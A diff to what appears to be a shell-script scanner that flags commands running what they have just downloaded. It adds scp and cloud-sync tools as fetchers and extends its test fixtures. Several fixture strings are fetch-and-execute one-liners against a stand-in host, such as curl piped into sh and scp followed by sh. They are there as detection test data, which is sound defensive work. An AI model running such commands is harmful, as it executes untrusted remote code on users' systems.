@@ -20,12 +20,14 @@ MATCHES = (
     "wget -q http://h/setup.py && python setup.py",
     "curl http://h/x | tee x.sh; sh x.sh",
     "git clone http://h/x && cd x && ./install.sh",
+    "scp host:run.sh . && sh run.sh",
     "git clone http://h/x.git && bash x/setup.sh",
 )
 IGNORES = (
     "curl -O http://h/a.tgz && tar xf a.tgz",
     "wget http://h/a.sh",
     "curl http://h/ > a; cat a",
+    "scp a.sh host: && sh a.sh",
     "bash x.sh; curl -o x.sh http://h/",
     "curl -o a http://h/ && less a",
     "git clone http://h/x && cd x && ls",
@@ -60,6 +62,9 @@ def inspect(script: Script) -> Iterator[Finding]:
                 inside = any(_name(shape) in clones for shape in node.shapes)
             if clones and _runs_a_file(node, program, first, clones, inside=inside):
                 yield danger(Reason.NETWORK_EXEC, "runs what it has just fetched", first)
+            if program in ("scp", "rsync", "aws", "gsutil", "rclone", "sftp", "smbclient"):
+                remote = [shape for shape in node.shapes if re.match(r"[\w.@-]+:(?!/$)", shape)]
+                fetched |= {_name(shape.rpartition(":")[2]) for shape in remote}
             if program in ("curl", "wget", "aria2c", "fetch", "axel", "http", "wget2"):
                 fetches_now = True
                 fetched |= {_name(re.split(r"[?#]", shape)[0]) for shape in node.shapes if "/" in shape}
